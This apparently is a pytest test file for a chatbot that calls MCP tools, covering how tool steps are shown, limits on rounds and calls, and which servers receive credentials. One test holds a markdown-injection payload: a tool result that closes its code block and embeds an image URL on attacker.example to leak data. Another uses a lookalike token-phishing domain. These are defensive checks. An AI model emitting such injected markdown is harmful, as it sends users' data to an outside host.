"""The chatbot's model calls tools over MCP: under serve-all the five sibling apps' tools, elsewhere
those of MCP_SERVERS, through gradio_client on the remote backend.

The test server's model calls the tools the user's message asks for ("call NAME {arguments}"),
streaming each call's arguments in fragments, then answers with what they returned ("The tools said:
..."). Each call shows in the reply as a titled step: its arguments, then its result; pictures a tool
returns follow it.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from gradio_client import Client
from PIL import Image

from common.settings import ToolServer
from common.tasks.chat import fenced
from common.tools import headers_for
from scripts import serve
from scripts.serving import serving
from testing.apps import running_app, settings_from
from testing.inference_server import TOOLS_REFUSED, InferenceTestServer, unused_port

ENTITIES = 'call ner_entities {"text": "My name is Andrew and I live in Paris"}'
ENTITIES_FOUND = (
    '[{"label": "PER", "text": "Andrew", "score": 0.9855, "start": 11, "end": 17}, '
    '{"label": "LOC", "text": "Paris", "score": 0.9795, "start": 32, "end": 37}]'
)
SIBLING_TOOLS = [
    "summarize_summarize",
    "summarize_summarize_document",
    "ner_ner",
    "ner_entities",
    "caption_caption",
    "imagegen_generate_images",
    "imagegen_generate",
    "game_caption",
    "game_generate",
    "game_caption_and_generate",
    "game_telephone",
]


@pytest.fixture(scope="module")
def served(inference_server: InferenceTestServer) -> Iterator[str]:
    """Serve-all at a free port, every task at the test server: the chatbot calls its siblings' tools."""
    app = serve.build_app(settings_from({**inference_server.env(), "HF_TOKEN": "hf_tools_test"}))
    with serving(app) as running:
        serve.set_local_urls(app, running.url)
        yield running.url


@pytest.fixture(scope="module")
def chatbot(served: str) -> Client:
    return Client(f"{served}/chatbot/", verbose=False)


def titles(reply: Any) -> list[str | None]:
    return [message.get("metadata", {}).get("title") for message in reply]


def test_the_model_calls_a_sibling_apps_tool_and_answers_with_its_result(chatbot, server):
    reply = chatbot.predict(ENTITIES, api_name="/chat")

    step, answer = reply
    assert step["metadata"]["title"] == "🛠️ ner_entities"
    assert step["metadata"]["status"] == "done"
    assert step["content"] == (
        'Arguments:\n```json\n{\n  "text": "My name is Andrew and I live in Paris"\n}\n```\n\n'
        f"Result:\n```\n{ENTITIES_FOUND}\n```"
    )
    assert answer == {"role": "assistant", "content": f"The tools said: {ENTITIES_FOUND}"}


def test_the_model_is_offered_every_sibling_tool_and_reads_the_result_as_a_tool_message(chatbot, server):
    chatbot.predict(ENTITIES, api_name="/chat")

    asked, answered = server.requests_for("chat")
    assert [tool["function"]["name"] for tool in asked.json["tools"]] == SIBLING_TOOLS
    entities = next(tool for tool in asked.json["tools"] if tool["function"]["name"] == "ner_entities")
    assert set(entities["function"]["parameters"]["properties"]) == {"text", "threshold"}
    assert answered.json["messages"][2:] == [
        {
            "role": "assistant",
            "content": "",
            "tool_calls": [
                {
                    "id": "call_1_0",
                    "type": "function",
                    "function": {
                        "name": "ner_entities",
                        "arguments": '{"text": "My name is Andrew and I live in Paris"}',
                    },
                }
            ],
        },
        {"role": "tool", "tool_call_id": "call_1_0", "content": ENTITIES_FOUND},
    ]


def test_a_painting_tool_shows_its_picture_in_the_reply_and_the_model_reads_that_it_was_shown(
    chatbot, server
):
    reply = chatbot.predict(
        'call imagegen_generate {"prompt": "a red fox", "seed": 42, "width": 64, "height": 64}',
        api_name="/chat",
    )

    step, picture, answer = reply
    assert step["metadata"]["title"] == "🛠️ imagegen_generate"
    assert step["content"].endswith("Result:\n```\n[an image, shown to the user]\n42\n```")
    with Image.open(picture["content"]) as image:
        assert (image.format, image.size) == ("PNG", (64, 64))
    assert answer["content"] == "The tools said: [an image, shown to the user]\n42"


def test_a_tools_failure_is_a_result_the_model_reads_and_the_step_says_it_failed(chatbot, server):
    step, answer = chatbot.predict('call summarize_summarize {"text": ""}', api_name="/chat")

    assert step["metadata"]["log"] == "failed"
    assert answer["content"] == "The tools said: The text to summarize is empty: enter some text first."


def test_two_calls_in_one_round_each_get_a_step_in_order(chatbot, server):
    reply = chatbot.predict(
        'call ner_entities {"text": "Andrew"} and call summarize_summarize {"text": "One. Two."}',
        api_name="/chat",
    )

    assert titles(reply) == ["🛠️ ner_entities", "🛠️ summarize_summarize", None]
    answer = '[{"label": "PER", "text": "Andrew", "score": 0.9885, "start": 0, "end": 6}] | One.'
    assert reply[-1]["content"] == f"The tools said: {answer}"


def test_after_five_rounds_the_model_must_answer_and_the_visitor_is_told(chatbot, server):
    server.tool_rounds = 99  # a model that would call tools for ever

    reply = chatbot.predict('call ner_entities {"text": "Andrew"}', api_name="/chat")

    assert titles(reply) == ["🛠️ ner_entities"] * 5 + [None, "⚠️ Tool limit reached"]
    requests = server.requests_for("chat")
    assert [request.json.get("tool_choice") for request in requests] == [None] * 5 + ["none"]
    assert reply[-1]["content"] == (
        "The model called tools in 5 rounds, the most one reply may; it answered with what they returned."
    )


def test_a_server_that_refuses_tools_gets_plain_chat_with_a_note_and_is_not_asked_again(served, server):
    server.refuse_tools = True
    listed = json.dumps([{"name": "ner", "url": f"{served}/ner/gradio_api/mcp/"}])
    settings = settings_from({**server.env(), "HF_TOKEN": "hf_tools_test", "MCP_SERVERS": listed})

    with running_app("chatbot", settings) as chatbot:  # its own app: it remembers the refusal
        refused = chatbot.predict("hello", api_name="/chat")
        later = chatbot.predict("hello again", api_name="/chat")

    assert refused == [
        {
            "role": "assistant",
            "content": "The model's server does not take tools (HTTP 400: "
            f"{TOOLS_REFUSED}), so the model answers without them.",
            "metadata": {"title": "⚠️ Answered without tools"},
        },
        {"role": "assistant", "content": "You said: hello (turn 1)"},
    ]
    assert later == "You said: hello again (turn 1)"
    assert ["tools" in request.json for request in server.requests_for("chat")] == [True, False, False]


def test_tools_turned_off_are_not_offered(chatbot, server):
    reply = chatbot.predict(ENTITIES, api_name="/chat", use_tools=False)

    assert reply == f"You said: {ENTITIES} (turn 1)"
    assert "tools" not in server.requests_for("chat")[0].json


def test_tool_steps_are_left_out_of_the_history_sent_back(chatbot, server):
    reply = chatbot.predict(ENTITIES, api_name="/chat")
    history = [{"role": "user", "content": ENTITIES}, *reply]

    chatbot.predict("thanks", api_name="/chat", history=history)

    assert server.requests_for("chat")[-1].json["messages"][1:] == [
        {"role": "user", "content": ENTITIES},
        {"role": "assistant", "content": f"The tools said: {ENTITIES_FOUND}"},
        {"role": "user", "content": "thanks"},
    ]


def test_an_unreachable_mcp_server_leaves_plain_chat(server):
    unreachable = json.dumps([{"name": "gone", "url": f"http://127.0.0.1:{unused_port()}/mcp"}])
    settings = settings_from({**server.env(), "HF_TOKEN": "hf_tools_test", "MCP_SERVERS": unreachable})

    with running_app("chatbot", settings) as chatbot:
        reply = chatbot.predict(ENTITIES, api_name="/chat")

    assert reply == f"You said: {ENTITIES} (turn 1)"
    assert "tools" not in server.requests_for("chat")[0].json


def test_mcp_servers_elsewhere_are_called_with_their_headers(served, server):
    listed = [{"name": "ner", "url": f"{served}/ner/gradio_api/mcp/", "headers": {"X-Api-Key": "k1"}}]
    settings = settings_from({**server.env(), "HF_TOKEN": "hf_tools_test", "MCP_SERVERS": json.dumps(listed)})

    with running_app("chatbot", settings) as chatbot:
        step, answer = chatbot.predict(ENTITIES, api_name="/chat")

    assert step["metadata"]["title"] == "🛠️ ner_entities"
    assert [tool["function"]["name"] for tool in server.requests_for("chat")[0].json["tools"]] == [
        "ner_ner",
        "ner_entities",
    ]
    assert answer["content"] == f"The tools said: {ENTITIES_FOUND}"


def test_a_signed_in_visitors_token_goes_only_to_hugging_face_servers_without_their_own_key():
    space = ToolServer("space", "https://someone-app.hf.space/gradio_api/mcp/")
    hub = ToolServer("hub", "https://huggingface.co/mcp")
    keyed = ToolServer("keyed", "https://huggingface.co/mcp", headers=(("Authorization", "Bearer own"),))
    elsewhere = ToolServer("other", "https://mcp.example.com/mcp", headers=(("X-Api-Key", "k"),))
    lookalike = ToolServer("lookalike", "https://evilhf.space/mcp")

    assert headers_for(space, "hf_visitor") == {"Authorization": "Bearer hf_visitor"}
    assert headers_for(hub, "hf_visitor") == {"Authorization": "Bearer hf_visitor"}
    assert headers_for(keyed, "hf_visitor") == {"Authorization": "Bearer own"}
    assert headers_for(elsewhere, "hf_visitor") == {"X-Api-Key": "k"}
    assert headers_for(lookalike, "hf_visitor") == {}
    assert headers_for(space, None) == {}


def test_a_step_shows_as_pending_while_its_tool_runs_then_done(chatbot, server):
    job = chatbot.submit(ENTITIES, api_name="/chat")
    job.result()

    steps = [output[0]["metadata"] for output in job.outputs() if isinstance(output, list)]
    assert steps[0] == {"title": "🛠️ ner_entities", "status": "pending"}
    assert steps[-1]["status"] == "done"


def test_serve_all_gives_the_chatbot_its_siblings_unless_told_otherwise(server):
    environ = {**server.env(), "HF_TOKEN": "hf_tools_test"}
    listed = json.dumps([{"name": "search", "url": "https://mcp.example.com/mcp"}])

    siblings = serve.build_app(settings_from(environ))
    without_mcp = serve.build_app(settings_from(environ), mcp_server=False)
    configured = serve.build_app(settings_from({**environ, "MCP_SERVERS": listed}))
    for app in (siblings, without_mcp, configured):
        serve.set_local_urls(app, "http://127.0.0.1:7860")

    assert siblings.state.tools.servers == tuple(
        ToolServer(name, f"http://127.0.0.1:7860/{name}/gradio_api/mcp/")
        for name in ("summarize", "ner", "caption", "imagegen", "game")
    )
    assert without_mcp.state.tools.servers == ()
    assert configured.state.tools.servers == (ToolServer("search", "https://mcp.example.com/mcp"),)


def test_a_result_cannot_close_its_code_block_to_show_markdown_of_its_own():
    hostile = "done\n```\n![](https://attacker.example/?leak=1)\n```"

    assert fenced(hostile) == f"````\n{hostile}\n````"
    assert fenced("plain", "json") == "```json\nplain\n```"


def test_at_most_five_calls_of_one_round_run_and_the_model_reads_that_the_rest_did_not(chatbot, server):
    asked = " and ".join(f'call ner_entities {{"text": "Name{n}"}}' for n in range(6))

    reply = chatbot.predict(asked, api_name="/chat")

    assert titles(reply) == ["🛠️ ner_entities"] * 6 + [None]
    assert reply[5]["metadata"]["log"] == "failed"
    assert reply[-1]["content"].endswith(" | Not run: one reply runs at most 5 tool calls a round.")
